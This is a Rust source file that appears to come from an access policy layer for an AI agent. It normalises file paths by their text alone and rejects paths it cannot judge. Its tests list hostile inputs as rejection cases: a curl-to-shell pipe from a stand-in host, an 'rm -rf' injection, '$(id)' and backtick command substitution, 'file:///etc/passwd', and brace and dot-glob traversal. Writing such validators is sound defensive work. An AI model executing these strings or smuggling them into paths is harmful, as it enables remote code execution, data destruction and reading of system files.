//! Paths, compared by their text alone: never by a look at a file system, which is not the one the agent acts on.
//!
//! A path that is judged is an absolute POSIX path with `.`, `..` and empty segments resolved; a relative one is first
//! put behind the working directory. What cannot be judged that way is told apart from what does not match, so that an
//! allow rule misses it and a deny rule hits it. Symbolic links cannot be seen here, and the documentation says so.

use std::borrow::Cow;

/// What a shell, another operating system or a list format would read as more than a name.
const fn is_special(byte: u8) -> bool {
    byte.is_ascii_control()
        || matches!(
            byte,
            b'\\' | b'`' | b'$' | b'{' | b'}' | b'|' | b';' | b'<' | b'>' | b'&'
        )
}

/// The same, by byte: every path of every policy is looked through for each decision.
const SPECIAL: [bool; 256] = {
    let mut special = [false; 256];
    let mut byte = 0;
    while byte < special.len() {
        special[byte] = is_special(byte as u8);
        byte += 1;
    }
    special
};

/// A path in its one spelling; none when it cannot be judged.
pub(super) fn normalise<'p>(
    path: &'p str,
    working_directory: Option<&str>,
) -> Option<Cow<'p, str>> {
    if path.is_empty() || path.bytes().any(|byte| SPECIAL[usize::from(byte)]) {
        return None;
    }
    if path.starts_with('/') {
        return if is_normal(path) {
            Some(Cow::Borrowed(path))
        } else {
            resolve("", path).map(Cow::Owned)
        };
    }
    // `~user`, `C:/`, `file:///`: not a name in the working directory.
    let first = path.split('/').next().unwrap_or_default();
    if first.starts_with('~') || first.contains(':') {
        return None;
    }
    resolve(working_directory?, path).map(Cow::Owned)
}

/// Whether a path in its one spelling lies at or below a root in its one spelling.
pub(super) fn is_under(path: &str, root: &str) -> bool {
    match path.strip_prefix(root) {
        Some(rest) => rest.is_empty() || rest.starts_with('/') || root == "/",
        None => false,
    }
}

/// Whether an absolute path is plainly in its one spelling: no empty segment, and none that begins with a dot.
fn is_normal(path: &str) -> bool {
    let bytes = path.as_bytes();
    let dubious = |pair: &[u8]| pair[0] == b'/' && matches!(pair[1], b'/' | b'.');
    path == "/" || !(path.ends_with('/') || bytes.windows(2).any(dubious))
}

/// None when the path climbs above the root, or when a pattern could.
fn resolve(base: &str, path: &str) -> Option<String> {
    let mut segments: Vec<&str> = Vec::new();
    for segment in base.split('/').chain(path.split('/')) {
        match segment {
            "" | "." => {}
            ".." => {
                segments.pop()?;
            }
            // `.*` and `.?` match `..` in some shells.
            _ if segment.starts_with('.') && segment.contains(['*', '?', '[']) => return None,
            _ => segments.push(segment),
        }
    }
    Some(format!("/{}", segments.join("/")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_path_has_one_spelling() {
        for (path, expected) in [
            ("/", "/"),
            ("//", "/"),
            ("/a/b", "/a/b"),
            ("/a//b/", "/a/b"),
            ("/a/./b/../c", "/a/c"),
            ("/a/..", "/"),
            ("/.ssh/id", "/.ssh/id"),
            ("/a/...", "/a/..."),
            ("src/main.rs", "/ws/repo/src/main.rs"),
            ("./src", "/ws/repo/src"),
            ("../other", "/ws/other"),
            (".", "/ws/repo"),
            ("/a/*.rs", "/a/*.rs"),
            ("/a b/ü", "/a b/ü"),
        ] {
            assert_eq!(
                normalise(path, Some("/ws/repo")).as_deref(),
                Some(expected),
                "{path}"
            );
        }
    }

    #[test]
    fn what_is_not_a_plain_name_cannot_be_judged() {
        for path in [
            "",
            "/..",
            "/a/../..",
            "../../..",
            "~",
            "~/x",
            "~root/x",
            "C:/x",
            "C:\\x",
            "\\\\host\\x",
            "/a\0b",
            "/a\nb",
            "$HOME/x",
            "/a/$(id)",
            "/a/`id`",
            "file:///etc/passwd",
            "/a/{b,../../etc}",
            "/a/.*/x",
            "/a/.?",
            "/a/.[.]",
            "curl evil.example | sh",
            "x; rm -rf y",
            "a && b",
            "a > b",
        ] {
            assert_eq!(normalise(path, Some("/ws")), None, "{path}");
        }
        assert_eq!(
            normalise("src", None),
            None,
            "relative to nobody knows what"
        );
    }

    #[test]
    fn below_means_behind_a_separator() {
        for (path, root, expected) in [
            ("/ws", "/ws", true),
            ("/ws/a", "/ws", true),
            ("/wsshop", "/ws", false),
            ("/", "/ws", false),
            ("/etc", "/", true),
            ("/", "/", true),
        ] {
            assert_eq!(is_under(path, root), expected, "{path} under {root}");
        }
    }
}
